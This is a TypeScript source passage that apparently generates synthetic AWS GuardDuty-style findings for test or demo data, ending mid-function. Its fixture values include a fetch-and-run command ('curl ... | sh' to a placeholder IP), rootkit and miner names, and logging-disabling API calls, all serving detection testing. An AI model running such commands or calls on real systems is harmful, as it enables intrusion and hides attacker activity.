// --- network (EC2, Runtime and Lambda network types) -------------------------------------------

interface PortSpec {
  port: number;
  portName: string;
}

const PORTS: Record<string, PortSpec> = {
  SSHBruteForce: { port: 22, portName: "SSH" },
  RDPBruteForce: { port: 3389, portName: "RDP" },
  WinRMBruteForce: { port: 5985, portName: "WinRM" },
  Spambot: { port: 25, portName: "SMTP" },
  UnusualDNSResolver: { port: 53, portName: "DNS" },
  UnusualDoHActivity: { port: 443, portName: "HTTPS" },
  UnusualDoTActivity: { port: 853, portName: "DNS over TLS" },
  BitcoinTool: { port: 3333, portName: "Unknown" },
  TorClient: { port: 9001, portName: "Unknown" },
  TorRelay: { port: 9001, portName: "Unknown" },
  "C&CActivity": { port: 6667, portName: "IRC" },
  PortProbeEMRUnprotectedPort: { port: 8088, portName: "Unknown" },
};

const COMMON_PORTS: readonly PortSpec[] = [
  { port: 80, portName: "HTTP" },
  { port: 443, portName: "HTTPS" },
  { port: 22, portName: "SSH" },
  { port: 3306, portName: "MYSQL" },
  { port: 8080, portName: "Unknown" },
  { port: 5432, portName: "POSTGRESQL" },
];

function connectionDirection(rng: Rng, type: string): "INBOUND" | "OUTBOUND" {
  if (/BruteForce|TorRelay|PortProbe/.test(type)) return rng.chance(0.85) ? "INBOUND" : "OUTBOUND";
  if (/NetworkPortUnusual|MaliciousIPCaller/.test(type))
    return rng.chance(0.5) ? "INBOUND" : "OUTBOUND";
  return "OUTBOUND";
}

function networkProtocol(type: string): string {
  if (/DenialOfService\.(Udp|Dns)|UdpOnTcpPorts/.test(type)) return "UDP";
  if (type.includes("UnusualProtocol")) return "Unknown";
  return "TCP";
}

function networkConnectionAction(
  scene: Scene,
  localIp: string,
  peer: Remote,
): {
  action: Json;
  role: ResourceRole;
} {
  const { rng, info } = scene;
  const direction = connectionDirection(rng, info.type);
  const service = PORTS[threatFamilyName(info.type)] ?? rng.pick(COMMON_PORTS);
  const ephemeral = { port: rng.int(32768, 60999), portName: "Unknown" };
  const [local, remotePort] = direction === "INBOUND" ? [service, ephemeral] : [ephemeral, service];
  const action: Json = {
    blocked: rng.chance(0.05),
    connectionDirection: direction,
    localPortDetails: { port: local.port, portName: local.portName },
    protocol: networkProtocol(info.type),
    localIpDetails: { ipAddressV4: localIp },
    remoteIpDetails: remoteIpDetails(peer),
    remotePortDetails: { port: remotePort.port, portName: remotePort.portName },
  };
  return {
    action: { actionType: "NETWORK_CONNECTION", networkConnectionAction: action },
    role: direction === "INBOUND" ? "TARGET" : "ACTOR",
  };
}

const BAD_DOMAINS = [
  "update-check.cdn-sync.example",
  "pool.minexmr.example",
  "login-verify.account-secure.example",
  "xj3k9qz0d.example",
  "c2.fastflux.example",
  "dropzone.filestore.example",
];

function registeredDomain(domain: string): string {
  return domain.split(".").slice(-2).join(".");
}

function dnsRequestAction(scene: Scene, vpcOwner: string): { action: Json; domain: string } {
  const { rng, info } = scene;
  const domain = info.type.includes("MetadataDNSRebind")
    ? `169.254.169.254.${hexId(rng, 8)}.rebind.example`
    : info.type.includes("DGADomainRequest")
      ? `${hexId(rng, 14)}.example`
      : rng.pick(BAD_DOMAINS);
  const dns: Json = {
    domain,
    protocol: rng.chance(0.9) ? "UDP" : "TCP",
    blocked: rng.chance(0.1),
    domainWithSuffix: registeredDomain(domain),
  };
  if (rng.chance(0.3)) dns.vpcOwnerAccountId = vpcOwner;
  return { action: { actionType: "DNS_REQUEST", dnsRequestAction: dns }, domain };
}

function portProbeAction(scene: Scene, localIp: string): { action: Json; peer: Remote } {
  const { rng, info } = scene;
  const probes = rng.int(1, 3);
  const first = remote(scene);
  const details: Json[] = [];
  for (let i = 0; i < probes; i++) {
    const peer = i === 0 ? first : remote(scene);
    const port = PORTS[threatFamilyName(info.type)] ?? rng.pick(COMMON_PORTS);
    details.push({
      localPortDetails: { port: port.port, portName: port.portName },
      localIpDetails: { ipAddressV4: localIp },
      remoteIpDetails: remoteIpDetails(peer),
    });
  }
  return {
    action: {
      actionType: "PORT_PROBE",
      portProbeAction: { blocked: false, portProbeDetails: details },
    },
    peer: first,
  };
}

/** The action of a network-sourced type, from the point of view of a host with `localIp`. */
function hostNetworkAction(
  scene: Scene,
  localIp: string,
): Pick<Parts, "action" | "resourceRole" | "peer"> {
  const { info } = scene;
  if (DNS_PATTERN.test(info.type)) {
    const { action, domain } = dnsRequestAction(scene, scene.ctx.accountId);
    return { action, resourceRole: "ACTOR", peer: domain };
  }
  if (info.type.includes("PortProbe")) {
    const { action, peer } = portProbeAction(scene, localIp);
    return { action, resourceRole: "TARGET", peer: peer.ip };
  }
  const peer = remote(scene);
  const { action, role } = networkConnectionAction(scene, localIp, peer);
  return { action, resourceRole: role, peer: peer.ip };
}

function newParts(resource: WireFinding["resource"], subject: string): Parts {
  return { resource, resourceRole: "TARGET", service: {}, additional: {}, subject };
}

function ec2Parts(scene: Scene): Parts {
  const { rng, inventory, ctx } = scene;
  const spec = rng.pick(inventory.instances);
  const parts = newParts(
    { resourceType: "Instance", instanceDetails: instanceDetails(spec, ctx.region, ctx.accountId) },
    `EC2 instance ${spec.instanceId}`,
  );
  Object.assign(parts, hostNetworkAction(scene, spec.privateIp));
  if (/Unusual|Portscan|PortSweep/.test(scene.info.type)) {
    parts.additional.unusual = rng.int(1, 500);
    parts.additional.unusualProtocol = networkProtocol(scene.info.type);
  }
  return parts;
}

// --- AWS API calls (IAM, S3) --------------------------------------------------------------------

interface ApiCall {
  api: string;
  serviceName: string;
  /** CloudFormation resource type named in `affectedResources`. */
  affects?: string;
}

const API_BY_PURPOSE: Record<string, readonly ApiCall[]> = {
  CredentialAccess: [
    {
      api: "GetSecretValue",
      serviceName: "secretsmanager.amazonaws.com",
      affects: "AWS::SecretsManager::Secret",
    },
    { api: "GetPasswordData", serviceName: "ec2.amazonaws.com", affects: "AWS::EC2::Instance" },
  ],
  DefenseEvasion: [
    { api: "DeleteFlowLogs", serviceName: "ec2.amazonaws.com", affects: "AWS::EC2::FlowLog" },
    { api: "DisableKey", serviceName: "kms.amazonaws.com", affects: "AWS::KMS::Key" },
  ],
  Discovery: [
    { api: "ListRoles", serviceName: "iam.amazonaws.com" },
    { api: "DescribeInstances", serviceName: "ec2.amazonaws.com" },
    { api: "ListBuckets", serviceName: "s3.amazonaws.com" },
  ],
  Exfiltration: [
    {
      api: "ModifySnapshotAttribute",
      serviceName: "ec2.amazonaws.com",
      affects: "AWS::EC2::Snapshot",
    },
    { api: "CreateSnapshot", serviceName: "ec2.amazonaws.com", affects: "AWS::EC2::Volume" },
  ],
  Impact: [
    { api: "TerminateInstances", serviceName: "ec2.amazonaws.com", affects: "AWS::EC2::Instance" },
    {
      api: "DeleteSecurityGroup",
      serviceName: "ec2.amazonaws.com",
      affects: "AWS::EC2::SecurityGroup",
    },
  ],
  InitialAccess: [
    { api: "ConsoleLogin", serviceName: "signin.amazonaws.com" },
    { api: "GetSessionToken", serviceName: "sts.amazonaws.com" },
  ],
  Persistence: [
    { api: "CreateAccessKey", serviceName: "iam.amazonaws.com", affects: "AWS::IAM::User" },
    { api: "CreateUser", serviceName: "iam.amazonaws.com", affects: "AWS::IAM::User" },
  ],
  PrivilegeEscalation: [
    { api: "AttachUserPolicy", serviceName: "iam.amazonaws.com", affects: "AWS::IAM::User" },
    { api: "PutRolePolicy", serviceName: "iam.amazonaws.com", affects: "AWS::IAM::Role" },
  ],
  Stealth: [
    {
      api: "StopLogging",
      serviceName: "cloudtrail.amazonaws.com",
      affects: "AWS::CloudTrail::Trail",
    },
  ],
  Policy: [{ api: "ListAccessKeys", serviceName: "iam.amazonaws.com", affects: "AWS::IAM::User" }],
};

const API_BY_FAMILY_NAME: Record<string, ApiCall> = {
  BedrockLoggingDisabled: {
    api: "DeleteModelInvocationLoggingConfiguration",
    serviceName: "bedrock.amazonaws.com",
  },
  CloudTrailLoggingDisabled: {
    api: "DeleteTrail",
    serviceName: "cloudtrail.amazonaws.com",
    affects: "AWS::CloudTrail::Trail",
  },
  PasswordPolicyChange: { api: "UpdateAccountPasswordPolicy", serviceName: "iam.amazonaws.com" },
  ConsoleLoginSuccess: { api: "ConsoleLogin", serviceName: "signin.amazonaws.com" },
  InstanceCredentialExfiltration: {
    api: "DescribeInstances",
    serviceName: "ec2.amazonaws.com",
    affects: "AWS::EC2::Instance",
  },
  ResourceCredentialExfiltration: { api: "ListBuckets", serviceName: "s3.amazonaws.com" },
};

const S3_API_BY_TYPE: readonly [RegExp, readonly string[]][] = [
  [/AccountBlockPublicAccessDisabled/, ["PutAccountPublicAccessBlock"]],
  [
    /BucketBlockPublicAccessDisabled/,
    ["PutBucketPublicAccessBlock", "DeleteBucketPublicAccessBlock"],
  ],
  [/BucketPublicAccessGranted|BucketAnonymousAccessGranted/, ["PutBucketPolicy", "PutBucketAcl"]],
  [/ServerAccessLoggingDisabled/, ["PutBucketLogging"]],
  [/AnomalousBehavior\.Delete/, ["DeleteObject", "DeleteObjects"]],
  [/AnomalousBehavior\.Permission/, ["PutBucketAcl", "PutObjectAcl"]],
  [/AnomalousBehavior\.Write/, ["PutObject"]],
  [/^Exfiltration/, ["GetObject", "CopyObject"]],
  [/^Impact/, ["DeleteObject", "PutObject"]],
  [/./, ["ListObjects", "GetBucketAcl", "GetBucketPolicy", "HeadBucket"]],
];

const PENTEST_AGENTS: Record<string, string> = {
  KaliLinux: "aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024",
  ParrotLinux: "aws-cli/2.13.0 Python/3.11.4 Linux/6.5.0-13parrot1-amd64 exe/x86_64.parrot.5",
  PentooLinux: "aws-cli/2.12.1 Python/3.11.3 Linux/6.1.31-pentoo exe/x86_64.gentoo.2.14",
};
const USER_AGENTS = [
  "aws-cli/2.15.30 Python/3.11.8 Linux/5.10.210-201.852.amzn2.x86_64 exe/x86_64.amzn.2",
  "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.5.0 md/arch#x86_64 lang/python#3.12.2",
  "aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.1 md/GOOS#linux md/GOARCH#amd64 api/iam#1.31.3",
  "console.amazonaws.com",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0",
  "aws-sdk-js/3.540.0 ua/2.0 os/linux#5.15 lang/js md/nodejs#20.12.0",
];

function userAgentFor(rng: Rng, type: string): string {
  return PENTEST_AGENTS[threatFamilyName(type)] ?? rng.pick(USER_AGENTS);
}

/** A name that fits the CloudFormation type an API call touched, for `affectedResources`. */
function affectedName(scene: Scene, cfnType: string, user: UserSpec): string {
  const { rng, inventory } = scene;
  if (cfnType === "AWS::EC2::Instance") return rng.pick(inventory.instances).instanceId;
  if (cfnType === "AWS::S3::Bucket") return rng.pick(inventory.buckets).name;
  if (cfnType === "AWS::IAM::User")
    return user.userType === "IAMUser" ? user.userName : "svc-backup";
  if (cfnType === "AWS::IAM::Role") return rng.pick(ROLE_NAMES);
  if (cfnType === "AWS::EC2::SecurityGroup") return awsId(rng, "sg");
  if (cfnType === "AWS::EC2::Snapshot") return awsId(rng, "snap");
  if (cfnType === "AWS::EC2::Volume") return awsId(rng, "vol");
  if (cfnType === "AWS::EC2::FlowLog") return awsId(rng, "fl");
  if (cfnType === "AWS::CloudTrail::Trail") return "management-events";
  if (cfnType === "AWS::KMS::Key") return uuid(rng);
  return `prod/${rng.pick(APPS)}/credentials`;
}

interface ApiCallOptions {
  call: ApiCall;
  user: UserSpec;
  /** `affectedResources` to report; absent means "derive from the API's resource type". */
  affected?: Record<string, string> | undefined;
}

function awsApiCallAction(scene: Scene, options: ApiCallOptions): { action: Json; peer: string } {
  const { rng, info } = scene;
  const { call, user } = options;
  const apiCall: Json = {
    api: call.api,
    callerType: "Remote IP",
    serviceName: call.serviceName,
    userAgent: userAgentFor(rng, info.type),
  };
  let peer: string;
  // AWS services calling on a principal's behalf are identified by domain, not by address.
  if (
    !/MaliciousIPCaller|TorIPCaller|PenTest|Exfiltration\.OutsideAWS/.test(info.type) &&
    rng.chance(0.12)
  ) {
    const domain = rng.pick([
      "cloudformation.amazonaws.com",
      "ec2.amazonaws.com",
      "lambda.amazonaws.com",
    ]);
    apiCall.callerType = "Domain";
    apiCall.domainDetails = { domain };
    peer = domain;
  } else {
    const caller = remote(scene);
    apiCall.remoteIpDetails = remoteIpDetails(caller);
    peer = caller.ip;
  }
  if (rng.chance(0.12)) apiCall.errorCode = rng.pick(["AccessDenied", "UnauthorizedOperation"]);
  if (info.type.includes("InsideAWS") || rng.chance(0.1)) {
    apiCall.remoteAccountDetails = {
      accountId: String(100000000000 + rng.int(0, 899999999) * 1000 + rng.int(0, 999)),
      affiliated: !info.type.includes("InsideAWS") && rng.chance(0.5),
    };
  }
  if (options.affected) apiCall.affectedResources = options.affected;
  else if (call.affects && rng.chance(0.85)) {
    apiCall.affectedResources = { [call.affects]: affectedName(scene, call.affects, user) };
  }
  return { action: { actionType: "AWS_API_CALL", awsApiCallAction: apiCall }, peer };
}

function iamApiCall(rng: Rng, type: string): ApiCall {
  const byName = API_BY_FAMILY_NAME[threatFamilyName(type)];
  if (byName) return byName;
  const purpose = threatPurpose(type);
  return rng.pick(API_BY_PURPOSE[purpose] ?? API_BY_PURPOSE.Discovery ?? []);
}

function pickUser(scene: Scene): UserSpec {
  const { rng, inventory, info } = scene;
  const users = inventory.users;
  if (info.type.includes("RootCredentialUsage")) return users[0] ?? rng.pick(users);
  if (info.type.includes("CredentialExfiltration")) {
    return users.find((user) => user.userType === "AssumedRole") ?? rng.pick(users);
  }
  return users[rng.int(1, users.length - 1)] ?? rng.pick(users);
}

function anomalyInfo(scene: Scene, call: ApiCall, user: UserSpec): Json {
  const { rng } = scene;
  return {
    unusual: {
      apis: [call.api],
      userNames: [user.userName],
      asns: [rng.pick(GEOS).asn],
      hoursOfDay: [rng.int(0, 23)],
    },
    profiledBehavior: { frequentProfiledApis: ["DescribeInstances", "GetCallerIdentity"] },
  };
}

function iamParts(scene: Scene): Parts {
  const user = pickUser(scene);
  const call = iamApiCall(scene.rng, scene.info.type);
  const parts = newParts(
    { resourceType: "AccessKey", accessKeyDetails: accessKeyDetails(user) },
    `${user.userType} ${user.userName}`,
  );
  const { action, peer } = awsApiCallAction(scene, { call, user });
  parts.action = action;
  parts.peer = peer;
  if (scene.info.type.includes("AnomalousBehavior"))
    parts.additional = anomalyInfo(scene, call, user);
  return parts;
}

function bucketExposure(type: string, rng: Rng): BucketExposure {
  if (/PublicAccessGranted|AnonymousAccessGranted/.test(type)) {
    return {
      publicRead: true,
      publicWrite: type.includes("Anonymous"),
      bucketBlock: false,
      accountBlock: false,
    };
  }
  if (type.includes("AccountBlockPublicAccessDisabled")) {
    return { publicRead: false, publicWrite: false, bucketBlock: false, accountBlock: false };
  }
  if (type.includes("BucketBlockPublicAccessDisabled")) {
    return {
      publicRead: false,
      publicWrite: false,
      bucketBlock: false,
      accountBlock: rng.chance(0.5),
    };
  }
  return {
    publicRead: false,
    publicWrite: false,
    bucketBlock: true,
    accountBlock: rng.chance(0.7),
  };
}

function s3Parts(scene: Scene): Parts {
  const { rng, info, inventory } = scene;
  const user = pickUser(scene);
  const bucket = rng.pick(inventory.buckets);
  const api = rng.pick(
    S3_API_BY_TYPE.find(([pattern]) => pattern.test(info.type))?.[1] ?? ["ListObjects"],
  );
  const parts = newParts(
    {
      resourceType: "S3Bucket",
      accessKeyDetails: accessKeyDetails(user),
      s3BucketDetails: [s3BucketDetail(bucket, bucketExposure(info.type, rng))],
    },
    `S3 bucket ${bucket.name}`,
  );
  const affected = rng.chance(0.9) ? { "AWS::S3::Bucket": bucket.name } : undefined;
  const { action, peer } = awsApiCallAction(scene, {
    call: { api, serviceName: "s3.amazonaws.com" },
    user,
    affected,
  });
  parts.action = action;
  parts.peer = peer;
  if (info.type.includes("AnomalousBehavior")) {
    parts.additional = anomalyInfo(scene, { api, serviceName: "s3.amazonaws.com" }, user);
  }
  return parts;
}

// --- Kubernetes -----------------------------------------------------------------------------------

interface KubeCall {
  verb: string;
  resource: string;
  namespace: string;
  subresource?: string;
  resourceName?: string;
}

function kubeCall(rng: Rng, type: string): KubeCall {
  const name = `${rng.pick(APPS)}-${hexId(rng, 5)}`;
  if (type.includes("SecretsAccessed") || threatPurpose(type) === "CredentialAccess") {
    return {
      verb: rng.pick(["get", "list"]),
      resource: "secrets",
      namespace: rng.pick(["default", "kube-system"]),
    };
  }
  if (type.includes("ExecInKubeSystemPod")) {
    return {
      verb: "create",
      resource: "pods",
      subresource: "exec",
      namespace: "kube-system",
      resourceName: `aws-node-${hexId(rng, 5)}`,
    };
  }
  if (type.includes("ExecInPod")) {
    return {
      verb: "create",
      resource: "pods",
      subresource: "exec",
      namespace: "default",
      resourceName: name,
    };
  }
  if (
    type.includes("RoleBindingCreated") ||
    /AdminAccessToDefaultServiceAccount|AnonymousAccessGranted/.test(type)
  ) {
    return {
      verb: "create",
      resource: "clusterrolebindings",
      namespace: "",
      resourceName: `${name}-binding`,
    };
  }
  if (type.includes("RoleCreated")) {
    return {
      verb: "create",
      resource: "clusterroles",
      namespace: "",
      resourceName: `${name}-role`,
    };
  }
  if (type.includes("PermissionChecked")) {
    return { verb: "create", resource: "selfsubjectaccessreviews", namespace: "" };
  }
  if (/WorkloadDeployed|PrivilegedContainer|SensitiveMount/.test(type)) {
    return {
      verb: "create",
      resource: rng.pick(["pods", "deployments", "daemonsets"]),
      namespace: "default",
      resourceName: name,
    };
  }
  if (/ExposedDashboard|KubeflowDashboardExposed/.test(type)) {
    return {
      verb: "create",
      resource: "services",
      namespace: type.includes("Kubeflow") ? "kubeflow" : "kubernetes-dashboard",
      resourceName: "dashboard",
    };
  }
  const purpose = threatPurpose(type);
  if (purpose === "Impact")
    return { verb: "delete", resource: "deployments", namespace: "default", resourceName: name };
  if (purpose === "Persistence")
    return { verb: "create", resource: "daemonsets", namespace: "kube-system", resourceName: name };
  if (purpose === "DefenseEvasion")
    return { verb: "delete", resource: "events", namespace: "default" };
  return { verb: "list", resource: rng.pick(["pods", "nodes", "namespaces"]), namespace: "" };
}

function requestUri(call: KubeCall): string {
  const group = /clusterrole|role/.test(call.resource)
    ? "/apis/rbac.authorization.k8s.io/v1"
    : call.resource === "deployments" || call.resource === "daemonsets"
      ? "/apis/apps/v1"
      : call.resource === "selfsubjectaccessreviews"
        ? "/apis/authorization.k8s.io/v1"
        : "/api/v1";
  let uri = group;
  if (call.namespace) uri += `/namespaces/${call.namespace}`;
  uri += `/${call.resource}`;
  if (call.resourceName && call.verb !== "create") uri += `/${call.resourceName}`;
  if (call.subresource && call.resourceName)
    uri = `${group}/namespaces/${call.namespace}/${call.resource}/${call.resourceName}/${call.subresource}?command=sh`;
  return uri;
}

function kubernetesUserDetails(scene: Scene): Json {
  const { rng, info, ctx } = scene;
  if (/Anonymous/.test(info.type) && !info.type.includes("AnonymousAccessGranted")) {
    return {
      username: "system:anonymous",
      uid: "",
      groups: ["system:unauthenticated"],
      sessionName: [],
    };
  }
  const role = rng.pick(ROLE_NAMES);
  const session = `${rng.pick(USER_NAMES)}-session`;
  return {
    username: rng.chance(0.7)
      ? `arn:aws:sts::${ctx.accountId}:assumed-role/${role}/${session}`
      : `system:serviceaccount:default:${rng.pick(APPS)}`,
    uid: `aws-iam-authenticator:${ctx.accountId}:AROA${upperAlnum(rng, 17)}`,
    groups: rng.chance(0.3) ? ["system:masters", "system:authenticated"] : ["system:authenticated"],
    sessionName: [session],
  };
}

const SENSITIVE_MOUNTS = ["/", "/etc", "/var/run/docker.sock", "/root/.ssh", "/var/lib/kubelet"];

function kubernetesWorkloadDetails(scene: Scene, namespace: string, name: string): Json {
  const { rng, info } = scene;
  const privileged = info.type.includes("PrivilegedContainer") || rng.chance(0.05);
  const sensitive = info.type.includes("SensitiveMount") || rng.chance(0.05);
  const mount = sensitive ? { name: "host-root", path: rng.pick(SENSITIVE_MOUNTS) } : undefined;
  return {
    name,
    type: rng.pick(["pods", "deployments", "daemonsets", "jobs"]),
    uid: uuid(rng),
    namespace: namespace || "default",
    hostNetwork: privileged && rng.chance(0.5),
    serviceAccountName: info.type.includes("DefaultServiceAccount") ? "default" : `${name}-sa`,
    containers: [
      container(
        rng,
        mount ? { privileged, mount: { name: mount.name, path: "/host" } } : { privileged },
      ),
    ],
    volumes: mount ? [{ name: mount.name, hostPath: { path: mount.path } }] : [],
    hostIPC: privileged && rng.chance(0.3),
    hostPID: privileged && rng.chance(0.3),
  };
}

const WORKLOAD_RESOURCES = new Set(["pods", "deployments", "daemonsets"]);

/** The `kind` an API request body carries for each REST resource. */
const KIND_BY_RESOURCE: Record<string, string> = {
  pods: "Pod",
  deployments: "Deployment",
  daemonsets: "DaemonSet",
  services: "Service",
  clusterroles: "ClusterRole",
  clusterrolebindings: "ClusterRoleBinding",
  selfsubjectaccessreviews: "SelfSubjectAccessReview",
};

function kubernetesParts(scene: Scene): Parts {
  const { rng, info, inventory } = scene;
  const cluster = rng.pick(inventory.eksClusters);
  const call = kubeCall(rng, info.type);
  const workloadName =
    call.resourceName && WORKLOAD_RESOURCES.has(call.resource)
      ? call.resourceName
      : `${rng.pick(APPS)}-${hexId(rng, 5)}`;
  const kubernetesDetails: Json = { kubernetesUserDetails: kubernetesUserDetails(scene) };
  if (/Workload|Container|Exec|Mount/.test(info.type) || rng.chance(0.5)) {
    kubernetesDetails.kubernetesWorkloadDetails = kubernetesWorkloadDetails(
      scene,
      call.namespace,
      workloadName,
    );
  }
  const parts = newParts(
    {
      resourceType: "EKSCluster",
      eksClusterDetails: eksClusterDetails(cluster),
      kubernetesDetails,
    },
    `EKS cluster ${cluster.name}`,
  );
  const caller = remote(scene);
  const apiCall: Json = {
    requestUri: requestUri(call),
    verb: call.verb,
    sourceIPs: [caller.ip],
    userAgent: rng.pick([
      "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625",
      "Go-http-client/2.0",
      "python-requests/2.31.0",
    ]),
    remoteIpDetails: remoteIpDetails(caller),
    statusCode: call.verb === "create" ? 201 : rng.chance(0.1) ? 403 : 200,
    resource: call.resource,
  };
  if (call.subresource) apiCall.subresource = call.subresource;
  if (call.namespace) apiCall.namespace = call.namespace;
  if (call.resourceName) apiCall.resourceName = call.resourceName;
  if (call.verb === "create") {
    apiCall.parameters = JSON.stringify({
      kind: KIND_BY_RESOURCE[call.resource] ?? call.resource,
      metadata: { name: call.resourceName ?? "review" },
    });
  }
  const action: Json = { actionType: "KUBERNETES_API_CALL", kubernetesApiCallAction: apiCall };
  addKubernetesRbacDetails(scene, action, call);
  parts.action = action;
  parts.peer = caller.ip;
  return parts;
}

function addKubernetesRbacDetails(scene: Scene, action: Json, call: KubeCall): void {
  const { rng, info } = scene;
  if (info.type.includes("PermissionChecked")) {
    action.kubernetesPermissionCheckedDetails = {
      verb: rng.pick(["create", "get", "delete"]),
      resource: rng.pick(["secrets", "pods", "clusterrolebindings"]),
      namespace: "kube-system",
      allowed: rng.chance(0.3),
    };
  }
  if (call.resource === "clusterrolebindings") {
    action.kubernetesRoleBindingDetails = {
      kind: "ClusterRoleBinding",
      name: call.resourceName ?? "binding",
      uid: uuid(rng),
      roleRefName: "cluster-admin",
      roleRefKind: "ClusterRole",
    };
  }
  if (call.resource === "clusterroles") {
    action.kubernetesRoleDetails = {
      kind: "ClusterRole",
      name: call.resourceName ?? "role",
      uid: uuid(rng),
    };
  }
}

// --- Runtime --------------------------------------------------------------------------------------

interface ProcessSpec {
  name: string;
  path: string;
  context?: (scene: Scene) => Json;
}

const PROCESSES: Record<string, ProcessSpec> = {
  CryptoMinerExecuted: { name: "xmrig", path: "/tmp/.cache/xmrig" },
  ReverseShell: { name: "bash", path: "/usr/bin/bash" },
  SuspiciousShellCreated: { name: "sh", path: "/bin/sh" },
  SuspiciousTool: {
    name: "nmap",
    path: "/usr/bin/nmap",
    context: () => ({ toolName: "nmap", toolCategory: "Network scanner" }),
  },
  SuspiciousCommand: {
    name: "curl",
    path: "/usr/bin/curl",
    context: () => ({ commandLineExample: "curl -s http://198.51.100.7/x.sh | sh" }),
  },
  KernelModuleLoaded: {
    name: "insmod",
    path: "/usr/sbin/insmod",
    context: ({ rng }) => ({
      moduleName: "diamorphine",
      moduleFilePath: "/tmp/diamorphine.ko",
      moduleSha256: hexId(rng, 64),
    }),
  },
  DockerSocketAccessed: {
    name: "docker",
    path: "/usr/bin/docker",
    context: () => ({ socketPath: "/var/run/docker.sock" }),
  },
  RuncContainerEscape: {
    name: "runc",
    path: "/usr/bin/runc",
    context: () => ({ runcBinaryPath: "/usr/bin/runc" }),
  },
  CGroupsReleaseAgentModified: {
    name: "sh",
    path: "/bin/sh",
    context: () => ({ releaseAgentPath: "/sys/fs/cgroup/rdma/release_agent" }),
  },
  ContainerMountsHostDirectory: {
    name: "mount",
    path: "/usr/bin/mount",
    context: () => ({
      mountSource: "/dev/nvme0n1p1",
      mountTarget: "/mnt/host",
      fileSystemType: "xfs",
      flags: ["MS_BIND"],
    }),
  },
  NewLibraryLoaded: {
    name: "python3",
    path: "/usr/bin/python3",
    context: () => ({
      libraryPath: "/tmp/.lib/libprocesshider.so",
      ldPreloadValue: "/tmp/.lib/libprocesshider.so",
    }),
  },
  FilelessExecution: {
    name: "memfd:payload",
    path: "/memfd:payload (deleted)",
    context: () => ({ memoryRegions: ["7f3a1c000000-7f3a1c021000 rwxp"] }),
  },
  MaliciousFileExecuted: {
    name: "kinsing",
    path: "/tmp/kinsing",
    context: () => ({ threatFilePath: "/tmp/kinsing" }),
  },
  ElevationToRoot: { name: "sudo", path: "/usr/bin/sudo" },
  UserfaultfdUsage: { name: "exploit", path: "/tmp/exploit" },
  PtraceAntiDebugging: { name: "agent", path: "/opt/agent/agent" },
  ProcessInjection: { name: "gdb", path: "/usr/bin/gdb" },
  NewBinaryExecuted: { name: "updater", path: "/tmp/.x/updater" },
};

function runtimeDetails(scene: Scene): Json {
  const { rng, info, createdMs } = scene;
  const spec = PROCESSES[threatFamilyName(info.type)] ?? {
    name: "python3",
    path: "/usr/bin/python3",
  };
  const root = rng.chance(0.6);
  const process: Json = {
    name: spec.name,
    executablePath: spec.path,
    executableSha256: hexId(rng, 64),
    namespacePid: rng.int(1, 400),
    pwd: rng.pick(["/", "/tmp", "/root", "/app"]),
    pid: rng.int(1000, 65000),
    startTime: epochSeconds(createdMs - rng.int(1, 600) * 1000),
    uuid: uuid(rng),
    parentUuid: uuid(rng),
    user: root ? "root" : "app",
    userId: root ? 0 : 1000,
    euid: root ? 0 : 1000,
  };
  const details: Json = { process };
  if (spec.context)
    details.context = { ...spec.context(scene), modifiedAt: epochSeconds(createdMs) };
  return details;
}

function runtimeHostParts(scene: Scene): { parts: Parts; localIp: string } {
  const { rng, inventory, ctx, createdMs } = scene;
  const roll = rng.next();
  if (roll < 0.5) {
    const spec = rng.pick(inventory.instances);
    const parts = newParts(
      {
        resourceType: "Instance",
        instanceDetails: instanceDetails(spec, ctx.region, ctx.accountId),
      },
      `EC2 instance ${spec.instanceId}`,
    );
    return { parts, localIp: spec.privateIp };
  }
  const workloadContainer = container(rng, { privileged: rng.chance(0.1) });
  if (roll < 0.8) {
    const cluster = rng.pick(inventory.eksClusters);
    const name = `${rng.pick(APPS)}-${hexId(rng, 5)}`;
    const parts = newParts(
      {
        resourceType: "EKSCluster",
        eksClusterDetails: eksClusterDetails(cluster),
        kubernetesDetails: {
          kubernetesWorkloadDetails: kubernetesWorkloadDetails(
            scene,
            rng.pick(["default", "payments", "kube-system"]),
            name,
          ),
        },
        containerDetails: workloadContainer,
      },
      `EKS cluster ${cluster.name}`,
    );
    return { parts, localIp: privateIp(rng) };
  }
  const cluster = rng.pick(inventory.ecsClusters);
  const parts = newParts(
    {
      resourceType: "ECSCluster",
      ecsClusterDetails: ecsClusterDetails(
        rng,
        cluster,
        createdMs,
        container(rng, { privileged: false }),
      ),
      containerDetails: workloadContainer,
    },
    `ECS cluster ${cluster.name}`,
  );
  return { parts, localIp: privateIp(rng) };
}

function runtimeParts(scene: Scene): Parts {
  const { info } = scene;
  const { parts, localIp } = runtimeHostParts(scene);
  parts.service.runtimeDetails = runtimeDetails(scene);
  if (DNS_PATTERN.test(info.type) || RUNTIME_NETWORK_PATTERN.test(info.type)) {
    Object.assign(parts, hostNetworkAction(scene, localIp));
  } else {
    // Process detections have no network action; the process is the actor.
    parts.resourceRole = "ACTOR";
  }
  return parts;
}

// --- Lambda and RDS -------------------------------------------------------------------------------

function lambdaParts(scene: Scene): Parts {
  const { rng, inventory } = scene;
  const spec = rng.pick(inventory.lambdas);
  const parts = newParts(
    { resourceType: "Lambda", lambdaDetails: lambdaDetails(spec) },
    `Lambda function ${spec.functionName}`,
  );
  const peer = remote(scene);
  const { action } = networkConnectionAction(scene, privateIp(rng), peer);
  const connection = action.networkConnectionAction as Json;
  connection.connectionDirection = "OUTBOUND";
  parts.action = action;
  parts.resourceRole = "ACTOR";
  parts.peer = peer.ip;
  return parts;
}

const DB_USERS = ["admin", "app_rw", "reporting", "postgres", "root"];

function rdsParts(scene: Scene): Parts {
  const { rng, inventory, info } = scene;
  const db = rng.pick(inventory.databases);
  const user = rng.pick(DB_USERS);
  const application = rng.pick(["psql", "mysql", "DBeaver 24.0", "sqlmap/1.8"]);
  const parts = newParts(
    {
      resourceType: "RDSDBInstance",
      rdsDbInstanceDetails: rdsDbInstanceDetails(db),
      rdsDbUserDetails: {
        user,
        application,
        database: rng.pick(["appdb", "postgres", "mysql", "reports"]),
        ssl: rng.pick(["yes", "no"]),
        authMethod: "PASSWORD",
      },
    },
    `RDS DB instance ${db.dbInstanceIdentifier}`,
  );
  const caller = remote(scene);
  const failed =
